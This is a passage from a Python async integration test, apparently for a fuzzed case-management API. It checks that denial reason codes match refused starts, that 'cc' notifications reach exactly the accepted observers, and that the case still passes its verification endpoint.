    assert Counter(row["reason_code"] for row in starter_denials) == refused_starts

    # notifications of copies (抄送) reach exactly the accepted observers, named as sent
    copied = {o for _, op, body in LEDGER.accepted_ops if op.endswith(":cc") for o in body["observers"]}
    recipients = {
        row["recipient"]
        for row in await db_pool.fetch("SELECT recipient FROM outbox WHERE case_id = $1 AND kind = 'case.cc'", case_id)
    }
    assert recipients == copied
    observers = await db_pool.fetchval("SELECT observers FROM cases WHERE case_id = $1", case_id)
    assert set(observers) == copied

    # the case still works and verifies: nothing the fuzzer sent broke its record
    async with httpx.AsyncClient(base_url=api.url, timeout=60) as http:
        verdict = await http.get(f"/v1/cases/{case_id}/verification", headers=api.headers("auditor"))
    assert verdict.json()["ok"] is True, verdict.text
